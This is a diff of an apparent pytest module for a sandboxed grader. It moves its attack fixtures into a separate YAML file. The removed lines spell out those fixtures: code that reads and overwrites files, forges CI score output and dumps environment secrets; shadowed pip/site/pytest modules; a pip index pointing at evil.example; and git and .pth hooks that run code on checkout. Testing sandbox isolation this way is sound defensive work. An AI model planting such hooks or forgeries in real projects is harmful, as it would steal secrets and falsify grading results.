@@ -10,50 +10,12 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from read_yaml import read_yaml
 
 ROOT = Path(__file__).resolve().parents[2]
 TAPE = ROOT / "examples" / "tape"
+TRAPS = read_yaml(Path(__file__).with_name("traps.yaml"))
 GRADE = Path(sys.executable).parent / "grade"
-
-# what runs when the file is loaded and whenever a check runs it: it tries to write, to read, and to command a log
-HOSTILE = """
-import os
-for path in {targets!r}:
-    for mode in ("w", "a", "r"):
-        try:
-            with open(path, mode) as file:
-                print("REACHED", path, file.read() if mode == "r" else file.write("FORGED"))
-        except Exception:
-            pass
-print("::error::FORGED")
-print("::set-output name=score::FORGED")
-print("TOKEN", [value for value in os.environ.values() if "SECRET" in value])
-raise ValueError("\\n::error::FORGED\\n```\\n<img src=x> | a | [x](http://evil.example)")
-"""
-
-# modules that a command in the checkout may import instead of the real ones, and settings that it may read
-MODULES = (
-    *("venv", "ensurepip", "pip", "site", "sitecustomize", "usercustomize", "conftest", "grader", "backward_course"),
-    *("pytest", "_pytest", "torch", "numpy", "yaml", "msgspec", "subprocess", "tempfile", "shutil", "json"),
-)
-TRAP = """
-import sys
-print("REACHED", __file__)
-print("REACHED", __file__, file=sys.stderr)
-open({mark!r}, "a").write(__file__ + "\\n")
-"""
-SETTINGS = {
-    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "conftest"\nbackend-path = ["."]\n'
-    '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
-    "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
-    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
-    "pip.conf": "[global]\nindex-url = http://evil.example\ntarget = .\n",
-    "pyvenv.cfg": "home = .\ninclude-system-site-packages = true\n",
-    "trap.pth": "import sitecustomize\n",
-    ".gitattributes": "* filter=trap diff=trap\n",
-    ".gitconfig": '[filter "trap"]\nsmudge = python conftest.py\n',
-    "course.yaml": "nonsense: 1\n",
-}
 
 Fill = Callable[..., Path]
 Prepare = Callable[..., Path]
@@ -61,9 +23,9 @@ Prepare = Callable[..., Path]
 
 def lay_traps(folder: Path, mark: Path) -> None:
     """Make a checkout hostile: whichever of its modules runs outside of the sandbox writes its name to `mark`."""
-    for name in MODULES:
-        (folder / f"{name}.py").write_text(TRAP.format(mark=str(mark)))
-    for name, text in SETTINGS.items():
+    for name in TRAPS["modules"]:
+        (folder / f"{name}.py").write_text(TRAPS["trap"].format(mark=str(mark)))
+    for name, text in TRAPS["settings"].items():
         (folder / name).write_text(text)
 
 
@@ -91,7 +53,7 @@ def fill(mark: Path) -> Fill:
             del texts["03_reset.py"]
         for name, text in texts.items():
             hostile = kind == "hostile" or (kind == "mixed" and name == "02_replay.py")
-            (place / name).write_text(HOSTILE.format(targets=[*map(str, targets)]) if hostile else text)
+            (place / name).write_text(TRAPS["hostile"].format(targets=[*map(str, targets)]) if hostile else text)
         return folder
 
     return fill
